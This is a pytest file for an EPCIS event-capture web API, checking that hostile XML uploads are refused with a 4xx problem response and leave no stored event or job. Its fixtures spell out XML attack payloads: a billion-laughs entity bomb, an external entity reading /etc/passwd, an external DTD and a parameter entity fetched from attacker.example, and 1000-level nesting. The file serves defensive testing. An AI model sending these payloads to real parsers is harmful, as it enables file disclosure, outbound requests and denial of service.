"""Hostile XML over HTTP: refused with a 4xx problem, and nothing written (no event, no job)."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from battrace.domain.epcis.xml import events_to_xml
from battrace.domain.lifecycle import builders as b
from battrace.persistence.base import Store
from battrace.web.runtime import ApiSettings
from tests import scenario as sc
from tests.http.conftest import Api, make_api

ROOT = (
    '<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2" schemaVersion="2.0" '
    'creationDate="2024-03-05T09:00:00Z"><EPCISBody><EventList><ObjectEvent>'
    "<eventTime>2024-03-05T09:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>"
    "<epcList><epc>{epc}</epc></epcList><action>OBSERVE</action>"
    "</ObjectEvent></EventList></EPCISBody></epcis:EPCISDocument>"
)

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n"
    + ROOT.format(epc="&lol9;")
)
EXTERNAL_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    + ROOT.format(epc="&xxe;")
)
EXTERNAL_DTD = (
    '<?xml version="1.0"?>\n<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">\n'
    + ROOT.format(epc="urn:epc:id:sgtin:0614141.107346.2017")
)
PARAMETER_ENTITY = (
    '<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>\n'
    + ROOT.format(epc="urn:epc:id:sgtin:0614141.107346.2017")
)
DEEP = ROOT.format(epc="urn:epc:id:sgtin:0614141.107346.2017").replace(
    "</ObjectEvent>", "<x:e xmlns:x='urn:x'>" * 1000 + "</x:e>" * 1000 + "</ObjectEvent>"
)
LATIN1 = '<?xml version="1.0" encoding="ISO-8859-1"?>\n' + ROOT.format(epc="urn:x:\xe9")


@pytest.fixture
def small(sqlite_store: Store) -> Iterator[Api]:
    yield from make_api(
        sqlite_store, ApiSettings(capture_max_bytes=100_000, rate_limit=1000, rate_burst=1000)
    )


def _refused(api: Api, body: bytes, status: int = 400) -> dict[str, object]:
    r = api.capture(sc.MAKER, body, "application/xml")
    assert r.status_code == status, r.text
    assert r.headers["content-type"] == "application/problem+json"
    assert "Traceback" not in r.text and "root:" not in r.text  # nothing of /etc/passwd
    assert api.store.head().event_count == 0
    assert api.get("/capture", sc.MAKER).json() == []  # no job either
    return r.json()  # type: ignore[no-any-return]


@pytest.mark.parametrize(
    "doc",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_dtds_and_entities_are_refused(small: Api, doc: str) -> None:
    problem = _refused(small, doc.encode())
    assert problem["errors"][0]["field"] == "document"  # type: ignore[index]
    assert "DTD" in str(problem["detail"]) or "entit" in str(problem["detail"])


def test_deep_nesting_is_refused(small: Api) -> None:
    problem = _refused(small, DEEP.encode())
    assert "deep" in str(problem["detail"]) or "nest" in str(problem["detail"])


def test_declared_non_utf8_is_refused(small: Api) -> None:
    _refused(small, LATIN1.encode("latin-1"))


def test_oversized_xml_is_refused_before_parsing(small: Api) -> None:
    events = [
        b.commission([sc.code("C", i)], site=sc.site(sc.MAKER), time=sc.at(0)) for i in range(400)
    ]
    big = events_to_xml(events, b.CONTEXT)
    assert len(big) > 100_000
    problem = _refused(small, big, 413)
    assert problem["type"] == "epcisException:CaptureLimitExceededException"


def test_the_same_document_without_the_attack_is_accepted(small: Api) -> None:
    doc = events_to_xml(sc.production(), b.CONTEXT)
    r = small.capture(sc.MAKER, doc, "text/xml")
    assert r.status_code == 202 and r.json()["captured"] == 5
